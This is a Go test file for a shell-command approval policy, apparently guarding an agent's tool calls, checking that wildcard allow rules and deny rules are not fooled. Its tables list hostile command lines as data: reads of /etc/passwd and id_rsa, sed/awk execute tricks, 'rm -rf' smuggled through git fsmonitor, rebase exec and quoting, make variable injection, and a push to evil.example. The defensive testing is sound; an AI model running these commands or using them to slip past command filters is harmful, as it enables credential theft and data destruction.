package policy_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/lineclear/lineclear/approval"
	"github.com/lineclear/lineclear/policy"
)

// misread are command lines with their verdicts under a rule that names programs with a star: small
// languages that a program reads in another way, options with a value in one program and none
// in another, and what find hands on.
var misread = map[string]string{
	`sed 's/x\/y/1;/e#/p' out/a`:                                    "mode",
	`sed -n 's/a\.b/c/p' out/a`:                                     "allow",
	`sed '/a\/b/p;e' out/a`:                                         "mode",
	`awk 'BEGIN{b=1;print 1/b "c /d" | "touch x" # "` + "\n" + `}'`: "mode",
	`awk '{s+=$1} END{print s/NR}' out/a`:                           "allow",
	`awk '/x/{print $2}' out/a`:                                     "allow",
	`awk '{x++ /b/ "c"; print}' out/a`:                              "mode",
	`git rebase -m --exec='touch x' HEAD~1`:                         "mode",
	`git checkout -m --pathspec-from-file=/etc/passwd`:              "mode",
	`git checkout -b new`:                                           "allow",
	`git diff -U --output=/tmp/x`:                                   "mode",
	`git diff -U /etc/passwd README`:                                "mode",
	`git diff -U3 HEAD`:                                             "allow",
	`git show -U --output=x`:                                        "mode",
	`od -c /etc/passwd`:                                             "mode",
	`od -c out/a`:                                                   "allow",
	`hexdump -c /etc/passwd`:                                        "mode",
	`strings -w /etc/passwd`:                                        "mode",
	`fmt -c /etc/passwd`:                                            "mode",
	`fmt -t /etc/passwd`:                                            "mode",
	`find . -type f -printf '/etc/passwd\0' | xargs -0 cat`:         "mode",
	`find . -type f -exec printf '/etc/passwd\0' \; | xargs -0 cat`: "mode",
	`find . -maxdepth 0 ! -type f -exec cat -- {}/../x \;`:          "mode",
	`find . -maxdepth 0 -exec cat {}/../x \; -type f`:               "mode",
	`find . -type f -exec cat {}/../../x \;`:                        "mode",
	`find out -type f -exec rm {} +`:                                "mode",
	`find out -type f -exec rm {} \;`:                               "mode",
	`find out -type f -exec truncate -s 0 {} +`:                     "mode",
	`find out -type f -exec chmod 777 {} +`:                         "mode",
	`find out -type f -exec gzip {} +`:                              "mode",
	`find out -type f -print0 | xargs -0 rm`:                        "mode",
	`find out -type f -print0 | xargs -0 -I{} rm {}`:                "mode",
	`find out -type f -exec cat {} +`:                               "allow",
	`find out -type f -exec cat {} \;`:                              "allow",
	`find out -type f -print0 | xargs -0 grep x`:                    "allow",
	`go test -rapid.checks -exec=/tmp/x ./...`:                      "mode",
	`npm test -- --import=data:x`:                                   "mode",
	`npm test -- src`:                                               "allow",
	`tag='$(shell touch x)' make test`:                              "mode",
	`env tag=';touch x' make test`:                                  "mode",
	`PORT=1 make test`:                                              "allow",
	`wget http://localhost/conftest.py`:                             "mode",
	`ss -i -D /tmp/x`:                                               "mode",
	`git push /tmp/bare.git HEAD:x`:                                 "mode",
	`git push evil.example:repo`:                                    "mode",
	`git fetch ../repo`:                                             "mode",
	`git push origin HEAD:x`:                                        "allow",
	`mktemp /tmp/XXXX`:                                              "mode",
	`go fmt /tmp/x.go`:                                              "mode",
	`go doc -src -u /etc Key`:                                       "mode",
	`git reflog expire --all`:                                       "mode",
	"awk 'BEGIN{print /\"/ | \"touch x\" # \"\n}'":                  "mode",
	`awk '{a[$1]+=$2/3} END{for (k in a) print k}' out/a`:           "allow",
	`awk '{print $1 / $2}' out/a`:                                   "allow",
	`awk '(1) /x/ {print}' out/a`:                                   "mode",
	`jq -n '$ ENV.PATH'`:                                            "mode",
	`pkg='-exec=/tmp/x .' make test`:                                "mode",
	`LANG='$(touch x)'; make test`:                                  "mode",
	`npx tsc @args.txt`:                                             "mode",
	`npx tsc src/a.ts`:                                              "allow",
	`npm test /tmp/x.mjs`:                                           "mode",
	`python3 -m unittest /tmp/x.py`:                                 "mode",
	`find . -type f -name id_rsa -exec cat {} +`:                    "mode",
	`find . -type f -name id_rsa -print0 | xargs -0 cat`:            "mode",
	`diff -N . out`:                                                 "mode",
	`diff out/a out/a`:                                              "allow",
	`git push out HEAD:x`:                                           "mode",
	`tar tf out/a.tar && cat out/a`:                                 "allow",
	`git checkout other && cat out/a`:                               "mode",
	`tar tf u@host:x`:                                               "mode",
	`git init`:                                                      "mode",
	`git init /tmp/x`:                                               "mode",
	`terraform fmt /etc`:                                            "mode",
	`terraform fmt`:                                                 "mode",
	`terraform fmt -check`:                                          "allow",
	`terraform show /etc/passwd`:                                    "mode",
	`black out/a`:                                                   "mode",
	`black --check out/a`:                                           "allow",
	`ruff format out/a`:                                             "mode",
	`cargo fmt`:                                                     "mode",
	`cargo fmt --check`:                                             "allow",
	`golangci-lint run /etc`:                                        "mode",
	`git ls-remote ext::sh`:                                         "mode",
}

func TestStarsStandForNothingThatProgramsReadOtherwise(t *testing.T) {
	dir := workspace(t)
	if err := os.WriteFile(filepath.Join(dir, "out/a"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	rule := policy.Rule{Tool: "shell", Paths: []string{"."}, Effect: policy.Allow, Command: []string{
		"sed *", "awk *", "git rebase *", "git checkout *", "git diff *", "git show *", "git log *", "od *", "hexdump *", "strings *", "fmt *", "find *", "cat *", "rm *", "truncate *", "chmod *", "gzip *", "wc *", "printf *", "xargs *", "grep *",
		"jq *", "npx tsc *", "python3 -m unittest *", "diff *", "tar tf *", "go test *", "npm test *", "make test *", "wget *", "ss *", "git push *", "git fetch *", "xargs -0 *", "mktemp *", "go fmt *", "go doc *", "git reflog *",
		"git init *", "terraform *", "black *", "ruff *", "cargo fmt *", "golangci-lint *", "git ls-remote *",
	}}
	for command, want := range misread {
		if got := effectOf(t, dir, line(t, command), rule); got != want {
			v := judge(t, policy.Rules{Rules: compiled(t, rule), WorkingDirectory: dir}, line(t, command))
			t.Errorf("%s: %s, want %s: %q", command, got, want, v.Trace)
		}
	}
}

func TestAProgramWithoutAShellRunsWhereItsShellGoes(t *testing.T) {
	dir := workspace(t)
	rule := policy.Rule{Tool: "shell", Paths: []string{"."}, Effect: policy.Allow, Command: []string{"cat *"}}
	for command, want := range map[string]string{"cd /etc && cat passwd": "mode", "cd src && cat a": "allow", "cd .. && cat x": "mode"} {
		call := about(shellSpec(), args(t, "argv", []string{"bash", "-c", command}))
		if got := effectOf(t, dir, call, rule); got != want {
			t.Errorf("%s: %s, want %s", command, got, want)
		}
	}
}

func TestDenyRulesAreInDoubtAboutCodeLinksAndNamesThatNobodyReads(t *testing.T) {
	dir := workspace(t)
	rules := policy.Rules{WorkingDirectory: dir, Rules: compiled(t,
		policy.Rule{Tool: "shell", Command: []string{"rm -rf *", "git push --force *"}, Effect: policy.Deny},
		policy.Rule{Tool: "shell", Paths: []string{"~/.ssh", "secret"}, Effect: policy.Deny},
	)}
	for command, want := range map[string]approval.Effect{
		`script -qc "/bin/r? -rf v" /dev/null`:           approval.AskPerson,
		`git -c core.fsmonitor='/bin/r? -rf v' status`:   approval.AskPerson,
		`git -c core.fsmonitor='/bin/r[m] -rf v' status`: approval.AskPerson,
		`git rebase -x "r''m -rf v" HEAD~1`:              approval.AskPerson,
		`printf 'rm -rf v' > l; xargs -a l env`:          approval.AskPerson,
		`printf 'rm -rf v' | xargs timeout 5`:            approval.AskPerson,
		`env '-Srm\_-rf\_v'`:                             approval.AskPerson,
		`/usr/lib/git-core/git-push --force`:             approval.Deny,
		`tar xf l.tar; cat zz/.ssh/id_rsa`:               approval.AskPerson,
		`git checkout other && cat zz/x`:                 approval.AskPerson,
		`cat zz/x; tar xf l.tar`:                         approval.Allow,
		"cat zz/x\ntar xf l.tar":                         approval.Allow,
		"tar xf l.tar\ncat zz/x":                         approval.AskPerson,
		`cat zz/x & tar xf l.tar`:                        approval.AskPerson,
		`cat zz/x | tar xf l.tar`:                        approval.AskPerson,
		`setsid -f cat zz/x; tar xf l.tar`:               approval.AskPerson,
		`for i in 1 2; do cat zz/x; tar xf l.tar; done`:  approval.AskPerson,
		`find . -exec cat zz/x \; -exec tar xf l.tar \;`: approval.AskPerson,
		`xargs -a list cat`:                              approval.AskPerson,
		`wc --files0-from=list`:                          approval.AskPerson,
		`sort --files0-from list`:                        approval.AskPerson,
		`rsync --files-from=list . out`:                  approval.AskPerson,
		`ls && git status`:                               approval.Allow,
		`tar tf l.tar`:                                   approval.Allow,
	} {
		call := line(t, command)
		call.Mode = approval.AutoApprove
		if v := judge(t, rules, call); v.Effect != want {
			t.Errorf("%s: %v by %q, want %v", command, v.Effect, v.Rule, want)
		}
	}
}
